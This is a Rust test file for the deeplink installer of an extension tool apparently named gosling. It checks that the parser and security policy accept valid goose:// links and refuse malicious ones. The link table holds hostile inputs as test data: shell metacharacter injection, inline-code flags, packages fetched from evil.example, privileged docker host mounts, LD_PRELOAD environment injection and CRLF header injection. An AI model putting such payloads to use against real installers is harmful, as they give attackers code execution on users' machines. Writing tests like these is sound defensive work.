//! The goose:// link table: each link with its exact outcome, through the library
//! (`plan_install` with the default policy) and through the real binary (`install --check`).

use crate::support::{gosling, TempDir};
use gosling::extensions::deeplink::plan_install;
use gosling::extensions::policy::{Policy, Refusal};
use gosling::extensions::Error;
use serde_json::{json, Value};

enum Want {
    /// Accepted; the exact config JSON.
    Config(Value),
    /// Refused by the parser: the parameter named, and a fragment of the rule.
    Link(&'static str, &'static str),
    /// Refused by the policy: the rule named in the message.
    Policy(&'static str),
}
use Want::*;

fn stdio(name: &str, cmd: &str, args: &[&str]) -> Value {
    json!({"type":"stdio","name":name,"description":"","cmd":cmd,"args":args,"envs":{},"env_keys":[],"timeout":300,"available_tools":[]})
}

fn http(name: &str, uri: &str) -> Value {
    json!({"type":"streamable_http","name":name,"description":"","uri":uri,"envs":{},"env_keys":[],"headers":{},"timeout":300,"available_tools":[]})
}

fn with(mut v: Value, patch: Value) -> Value {
    for (k, x) in patch.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

const ALLOWED_CMDS: &str = "allowed-commands rule";
const INLINE: &str = "no-inline-code rule";
const GRAMMAR: &str = "launcher grammar rule";
const NESTED: &str = "nested-launcher rule";
const KNOWN: &str = "known-programs rule";
const SHELL: &str = "no-shell-syntax rule";
const PACKAGE: &str = "package-spec rule";
const CONTAINER: &str = "container-isolation rule";
const ENV: &str = "environment rule";

fn table() -> Vec<(&'static str, Want)> {
    vec![
        // --- valid ---
        (
            "goose://extension?cmd=npx&arg=-y&arg=%40modelcontextprotocol%2Fserver-everything&name=Everything&description=Demo&timeout=120&env=API_KEY%3DYour%20API%20key",
            Config(json!({"type":"stdio","name":"Everything","description":"Demo","cmd":"npx","args":["-y","@modelcontextprotocol/server-everything"],"envs":{},"env_keys":["API_KEY"],"timeout":120,"available_tools":[]})),
        ),
        ("goose://extension?cmd=uvx&arg=mcp-server-fetch&name=Fetch", Config(stdio("Fetch", "uvx", &["mcp-server-fetch"]))),
        ("goose://extension?cmd=uvx&arg=mcp-server-fetch&name=Fetch&transport=stdio", Config(stdio("Fetch", "uvx", &["mcp-server-fetch"]))),
        ("GOOSE://EXTENSION?cmd=uvx&arg=mcp-p&name=Up", Config(stdio("Up", "uvx", &["mcp-p"]))),
        ("goose://extension/?cmd=uvx&arg=mcp-p&name=Slash#fragment-ignored", Config(stdio("Slash", "uvx", &["mcp-p"]))),
        ("  goose://extension?cmd=uvx&arg=mcp-p&name=%20%20Trimmed%20\n", Config(stdio("Trimmed", "uvx", &["mcp-p"]))),
        ("goose://extension?cmd=uvx&arg=mcp-p&name=My+Tool", Config(stdio("My Tool", "uvx", &["mcp-p"]))),
        ("goose://extension?cmd=uvx&arg=mcp-p&name=%C3%A9t%C3%A9", Config(stdio("été", "uvx", &["mcp-p"]))),
        ("goose://extension?cmd=uvx&arg=mcp-p&name=U&utm_source=web&foo", Config(stdio("U", "uvx", &["mcp-p"]))),
        ("goose://extension?&&cmd=uvx&arg=mcp-p&&name=E&", Config(stdio("E", "uvx", &["mcp-p"]))),
        (
            "goose://extension?cmd=uvx&arg=mcp-p&name=N&id=n-1&installation_notes=Needs+uv%0Aand+a+key",
            Config(with(stdio("N", "uvx", &["mcp-p"]), json!({"installation_notes":"Needs uv\nand a key"}))),
        ),
        (
            "goose://extension?name=GitHub&cmd=docker&arg=run&arg=-i&arg=--rm&arg=-e&arg=GITHUB_PERSONAL_ACCESS_TOKEN&arg=ghcr.io%2Fgithub%2Fgithub-mcp-server&env=GITHUB_PERSONAL_ACCESS_TOKEN%3DA%20token",
            Config(with(
                stdio("GitHub", "docker", &["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"]),
                json!({"env_keys":["GITHUB_PERSONAL_ACCESS_TOKEN"]}),
            )),
        ),
        (
            "goose://extension?name=Remote&cmd=npx&arg=-y&arg=mcp-remote&arg=https%3A%2F%2Fh.example%2Fmcp%3Fa%3D1%26b%3D2",
            Config(stdio("Remote", "npx", &["-y", "mcp-remote", "https://h.example/mcp?a=1&b=2"])),
        ),
        ("goose://extension?url=https%3A%2F%2Fmcp.example.com%2Fmcp&name=Remote&transport=streamable_http", Config(http("Remote", "https://mcp.example.com/mcp"))),
        ("goose://extension?url=https://mcp.example.com/mcp&name=Remote", Config(http("Remote", "https://mcp.example.com/mcp"))),
        ("goose://extension?url=http://127.0.0.1:8080/mcp&name=Local&type=streamable_http&timeout=86400", Config(with(http("Local", "http://127.0.0.1:8080/mcp"), json!({"timeout":86400})))),
        (
            "goose://extension?url=https://h.example/mcp&name=Signed&header=X-Sig%3Da%3Db%3D%3D",
            Config(with(http("Signed", "https://h.example/mcp"), json!({"headers":{"X-Sig":"a=b=="}}))),
        ),
        (
            "goose://extension?url=https://h.example/mcp&name=Auth&header=Authorization%3DBearer%20%24%7BTOKEN%7D&env=TOKEN%3DThe%20token",
            Config(with(http("Auth", "https://h.example/mcp"), json!({"headers":{"Authorization":"Bearer ${TOKEN}"},"env_keys":["TOKEN"]}))),
        ),
        (
            "goose://extension?url=https://h.example/mcp&name=Auth2&header=Authorization=Bearer+$API_TOKEN",
            Config(with(http("Auth2", "https://h.example/mcp"), json!({"headers":{"Authorization":"Bearer $API_TOKEN"},"env_keys":["API_TOKEN"]}))),
        ),
        // --- missing, blank or duplicated fields ---
        ("goose://extension?cmd=uvx", Link("name", "required")),
        ("goose://extension?cmd=uvx&name=%20%20", Link("name", "blank")),
        ("goose://extension?cmd=uvx&name=", Link("name", "required")),
        ("goose://extension?cmd=uvx&name=a&name=b", Link("name", "more than once")),
        ("goose://extension?cmd=uvx&cmd=npx&name=a", Link("cmd", "more than once")),
        ("goose://extension?url=http://a/mcp&url=http://b/mcp&name=a", Link("url", "more than once")),
        ("goose://extension?cmd=uvx&name=a&timeout=5&timeout=6", Link("timeout", "more than once")),
        ("goose://extension?cmd=uvx&name=a&description=x&description=y", Link("description", "more than once")),
        ("goose://extension?url=http://a/mcp&name=a&transport=streamable_http&type=streamable_http", Link("type", "alias")),
        ("goose://extension?cmd=uvx&name=a&env=K&env=K", Link("env", "more than once")),
        ("goose://extension?url=http://a/mcp&name=a&header=X-A%3D1&header=x-a%3D2", Link("header", "more than once")),
        // --- sources ---
        ("goose://extension?cmd=uvx&url=http://a/mcp&name=a", Link("url", "not both")),
        ("goose://extension?name=a", Link("cmd", "one source is required")),
        ("goose://extension?name=a&arg=x", Link("cmd", "one source is required")),
        ("goose://extension?cmd=&name=a", Link("cmd", "must name the program")),
        ("goose://extension?cmd=%20uvx&name=a", Link("cmd", "without surrounding spaces")),
        ("goose://extension?url=ftp://h/x&name=a", Link("url", "http:// or https://")),
        ("goose://extension?url=https:///mcp&name=a", Link("url", "no host")),
        ("goose://extension?url=https://user:pw@h/mcp&name=a", Link("url", "credentials")),
        ("goose://extension?url=http://a/b%20c&name=a", Link("url", "spaces")),
        ("goose://extension?url=http://a/mcp&name=a&arg=x", Link("arg", "only to cmd")),
        ("goose://extension?cmd=uvx&name=a&header=X%3D1", Link("header", "only to url")),
        ("goose://extension?url=http://a/mcp&name=a&transport=sse", Link("transport", "SSE is unsupported, migrate to streamable_http")),
        ("goose://extension?url=http://a/sse&name=a&type=sse", Link("type", "SSE is unsupported, migrate to streamable_http")),
        ("goose://extension?url=http://a/mcp&name=a&transport=websocket", Link("transport", "use streamable_http")),
        ("goose://extension?cmd=uvx&name=a&transport=streamable_http", Link("transport", "does not go with cmd")),
        // --- scheme and host ---
        ("https://extension?cmd=uvx&name=a", Link("scheme", "must be goose://")),
        ("goosex://extension?cmd=uvx&name=a", Link("scheme", "must be goose://")),
        ("extension?cmd=uvx&name=a", Link("scheme", "goose://extension?")),
        ("goose:extension?cmd=uvx&name=a", Link("host", "goose://extension?")),
        ("goose://recipe?cmd=uvx&name=a", Link("host", "must be `extension`")),
        ("goose://extension/install?cmd=uvx&name=a", Link("host", "must be `extension`")),
        // --- timeout ---
        ("goose://extension?cmd=uvx&name=a&timeout=0", Link("timeout", "between 1 and 86400")),
        ("goose://extension?cmd=uvx&name=a&timeout=-5", Link("timeout", "whole number")),
        ("goose://extension?cmd=uvx&name=a&timeout=1.5", Link("timeout", "whole number")),
        ("goose://extension?cmd=uvx&name=a&timeout=abc", Link("timeout", "whole number")),
        ("goose://extension?cmd=uvx&name=a&timeout=", Link("timeout", "whole number")),
        ("goose://extension?cmd=uvx&name=a&timeout=86401", Link("timeout", "between 1 and 86400")),
        ("goose://extension?cmd=uvx&name=a&timeout=99999999999999999999", Link("timeout", "whole number")),
        // --- encodings ---
        ("goose://extension?cmd=uvx&name=%zz", Link("name", "invalid percent escape")),
        ("goose://extension?cmd=uvx&name=a&description=abc%2", Link("description", "invalid percent escape")),
        ("goose://extension?cmd=uvx&name=%", Link("name", "invalid percent escape")),
        ("goose://extension?cmd=uvx&name=%FF", Link("name", "not UTF-8")),
        ("goose://extension?cmd=uvx&name=%C3%28", Link("name", "not UTF-8")),
        ("goose://extension?cmd=uvx&name=a&%zz=1", Link("%zz", "invalid percent escape")),
        ("goose://extension?cmd=uvx&name=a%0Ab", Link("name", "control characters")),
        ("goose://extension?cmd=uvx&name=a&arg=x%00y", Link("arg", "control characters")),
        ("goose://extension?cmd=uvx&name=a&description=%1B%5B31m", Link("description", "control characters")),
        // --- env and header shapes ---
        ("goose://extension?cmd=uvx&arg=p&name=a&env=LD_PRELOAD%3Dlib", Policy(ENV)),
        ("goose://extension?cmd=uvx&arg=p&name=a&env=path", Policy(ENV)),
        ("goose://extension?cmd=uvx&arg=p&name=a&env=npm_config_registry", Policy(ENV)),
        ("goose://extension?cmd=uvx&arg=p&name=a&env=BASH_ENV", Policy(ENV)),
        ("goose://extension?cmd=uvx&arg=p&name=a&env=DYLD_FALLBACK_LIBRARY_PATH", Policy(ENV)),
        ("goose://extension?cmd=uvx&arg=p&name=a&env=HTTPS_PROXY", Policy(ENV)),
        ("goose://extension?cmd=uvx&name=a&env=1ABC", Link("env", "not a valid environment variable name")),
        ("goose://extension?cmd=uvx&name=a&env=%3Ddescription", Link("env", "not a valid environment variable name")),
        ("goose://extension?url=http://a/mcp&name=a&header=NoEquals", Link("header", "Name=Value")),
        ("goose://extension?url=http://a/mcp&name=a&header=Bad%20Name%3Dx", Link("header", "not a valid HTTP header name")),
        ("goose://extension?url=http://a/mcp&name=a&header=Host%3Devil", Link("header", "set by the HTTP transport")),
        ("goose://extension?url=http://a/mcp&name=a&header=X%3Da%0D%0AInjected%3A%201", Link("header", "control characters")),
        ("goose://extension?url=http://a/mcp&name=a&header=X%3D%24%7BLD_PRELOAD%7D", Policy(ENV)),
        // --- command policy ---
        ("goose://extension?cmd=npx&arg=-c&arg=touch%20%2Ftmp%2Fx&name=a", Policy(INLINE)),
        ("goose://extension?cmd=npx&arg=-y&arg=pkg&arg=-c&arg=id&name=a", Policy(INLINE)),
        ("goose://extension?cmd=npx.cmd&arg=-c&arg=id&name=a", Policy(INLINE)),
        ("goose://extension?cmd=npx&arg=--call&arg=id&name=a", Policy(INLINE)),
        ("goose://extension?cmd=npx&arg=--call%3Did&name=a", Policy(INLINE)),
        ("goose://extension?cmd=npx&arg=-yc&arg=id&name=a", Policy(GRAMMAR)),
        ("goose://extension?cmd=npx&arg=--node-options%3D--require%3D%2Ftmp%2Fx.js&arg=pkg&name=a", Policy(GRAMMAR)),
        ("goose://extension?cmd=uvx&arg=python&arg=-c&arg=import%20os&name=a", Policy(NESTED)),
        ("goose://extension?cmd=docker&arg=run&arg=alpine&arg=sh&arg=-c&arg=id&name=a", Policy(KNOWN)),
        ("goose://extension?cmd=docker&arg=run&arg=--entrypoint%3D%2Fbin%2Fbash&arg=alpine&arg=-lc&arg=id&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=jbang&arg=--code&arg=class%20A%7B%7D&name=a", Policy(GRAMMAR)),
        ("goose://extension?cmd=npx&arg=pkg&arg=%24(id)&name=a", Policy(SHELL)),
        ("goose://extension?cmd=uvx&arg=pkg%3Bid&name=a", Policy(SHELL)),
        ("goose://extension?cmd=uvx&arg=a%20%60id%60&name=a", Policy(SHELL)),
        ("goose://extension?cmd=uvx&arg=a%7Cb&name=a", Policy(SHELL)),
        ("goose://extension?cmd=gosling&arg=agent&arg=--host&arg=0.0.0.0&name=a", Policy("gosling grammar rule")),
        ("goose://extension?cmd=gosling&arg=mcp&arg=developer&name=Dev", Config(stdio("Dev", "gosling", &["mcp", "developer"]))),
        ("goose://extension?cmd=bash&arg=-c&arg=id&name=a", Policy(ALLOWED_CMDS)),
        ("goose://extension?cmd=python3&arg=server.py&name=a", Policy(ALLOWED_CMDS)),
        ("goose://extension?cmd=node&arg=server.js&name=a", Policy(ALLOWED_CMDS)),
        ("goose://extension?cmd=%2Fusr%2Fbin%2Fnpx&arg=pkg&name=a", Policy("paths are not allowed")),
        ("goose://extension?cmd=.%2Fnpx&name=a", Policy("paths are not allowed")),
        ("goose://extension?cmd=NPX&name=a", Policy(ALLOWED_CMDS)),
        // --- launchers run registry packages only ---
        ("goose://extension?cmd=npx&arg=awk&arg=BEGIN%7Bsystem(%22id%22)%7D&name=a", Policy(NESTED)),
        ("goose://extension?cmd=npx&arg=node&arg=--import%3Ddata%3Atext%2Fjavascript%2C1&name=a", Policy(NESTED)),
        ("goose://extension?cmd=uvx&arg=ipython&arg=-c&arg=1&name=a", Policy(NESTED)),
        ("goose://extension?cmd=uvx&arg=xonsh&arg=-c&arg=id&name=a", Policy(NESTED)),
        ("goose://extension?cmd=uvx&arg=python&arg=-cimport%20os&name=a", Policy(NESTED)),
        ("goose://extension?cmd=npx&arg=.%2Fevil.js&name=a", Policy(PACKAGE)),
        ("goose://extension?cmd=npx&arg=https%3A%2F%2Fevil.example%2Fx.tgz&name=a", Policy(PACKAGE)),
        ("goose://extension?cmd=uvx&arg=--from&arg=git%2Bhttps%3A%2F%2Fevil.example%2Fx&arg=x&name=a", Policy(PACKAGE)),
        ("goose://extension?cmd=uvx&name=a", Policy(PACKAGE)),
        ("goose://extension?cmd=docker&arg=run&arg=--privileged&arg=-v&arg=%2F%3A%2Fhost&arg=alpine&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=docker&arg=run&arg=-v%2F%3A%2Fhost&arg=alpine&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=docker&arg=run&arg=--pid%3Dhost&arg=alpine&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=docker&arg=run&arg=--network&arg=host&arg=alpine&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=docker&arg=run&arg=--cap-add%3DSYS_ADMIN&arg=alpine&name=a", Policy(CONTAINER)),
        ("goose://extension?cmd=docker&arg=run&arg=--device&arg=%2Fdev%2Fsda&arg=alpine&name=a", Policy(CONTAINER)),
        // A launcher never runs an interpreter, even one given a module (issue 27, finding 1).
        ("goose://extension?cmd=uvx&arg=--from&arg=mcp-foo&arg=python&arg=-m&arg=mcp_foo&name=Mod", Policy(NESTED)),
        ("goose://extension?cmd=npx&arg=-y&arg=zx&arg=http%3A%2F%2F127.0.0.1%3A1%2Fx.mjs&name=a", Policy(NESTED)),
        // Mounts only inside the working dir, written relative to it.
        ("goose://extension?cmd=docker&arg=run&arg=-v&arg=%2Ftmp%2Fdata%3A%2Fdata&arg=img&name=a", Policy(CONTAINER)),
        (
            "goose://extension?cmd=docker&arg=run&arg=-i&arg=--rm&arg=-v&arg=.%2Fdata%3A%2Fdata&arg=img&name=Vol",
            Config(stdio("Vol", "docker", &["run", "-i", "--rm", "-v", "./data:/data", "img"])),
        ),
    ]
}

fn check_library(link: &str, want: &Want) {
    let got = plan_install(link, &Policy::permissive(), &|_| false);
    match (want, got) {
        (Config(v), Ok(plan)) => assert_eq!(&serde_json::to_value(&plan.config).unwrap(), v, "link {link:?}"),
        (Link(param, rule), Err(e @ Error::Link { .. })) => {
            let Error::Link { param: p, rule: r } = &e else { unreachable!() };
            assert_eq!(p, param, "link {link:?}: {e}");
            assert!(r.contains(rule), "link {link:?}: rule {r:?} lacks {rule:?}");
            assert!(e.to_string().starts_with(&format!("deeplink: `{param}`: ")), "{e}");
        }
        (Policy(rule), Err(Error::Refused(e))) => {
            assert!(
                matches!(
                    e,
                    Refusal::CommandNotAllowed { .. }
                        | Refusal::InlineCode { .. }
                        | Refusal::ShellMetacharacter { .. }
                        | Refusal::NotAPackage { .. }
                        | Refusal::ContainerReach { .. }
                        | Refusal::EnvRefused { .. }
                        | Refusal::ReservedSecret { .. }
                ),
                "{e}"
            );
            assert!(e.to_string().contains(rule), "link {link:?}: {e}");
        }
        (_, Ok(plan)) => panic!("link {link:?} was accepted: {}", serde_json::to_string(&plan.config).unwrap()),
        (_, Err(e)) => panic!("link {link:?} refused for the wrong reason: {e}"),
    }
}

#[test]
fn link_table_library() {
    let t = table();
    assert!(t.len() >= 40, "{} links", t.len());
    for (link, want) in &t {
        check_library(link, want);
    }
}

#[test]
fn link_table_binary_check() {
    let home = TempDir::new("deeplink");
    for (link, want) in table() {
        let out = gosling(&home)
            .args(["install", "--check", link])
            .env_remove("GOOSE_ALLOWLIST")
            .env_remove("GOSLING_ALLOWED_COMMANDS")
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        match want {
            Config(v) => {
                assert_eq!(out.status.code(), Some(0), "link {link:?}: {stderr}");
                assert!(stdout.contains("ok: the link is valid and the policy allows it"), "{stdout}");
                assert!(
                    stdout.contains(&format!("(key {})", v["name"].as_str().unwrap().to_lowercase().replace(' ', ""))),
                    "{stdout}"
                );
            }
            Link(param, rule) => {
                assert_eq!(out.status.code(), Some(1), "link {link:?}: {stdout}");
                assert!(
                    stderr.contains(&format!("gosling install: deeplink: `{param}`: ")) && stderr.contains(rule),
                    "link {link:?}: {stderr}"
                );
            }
            Policy(rule) => {
                assert_eq!(out.status.code(), Some(1), "link {link:?}: {stdout}");
                assert!(
                    stderr.contains("gosling install: policy: ") && stderr.contains(rule),
                    "link {link:?}: {stderr}"
                );
            }
        }
    }
    assert!(!home.join("config").exists(), "--check must not write anything");
}
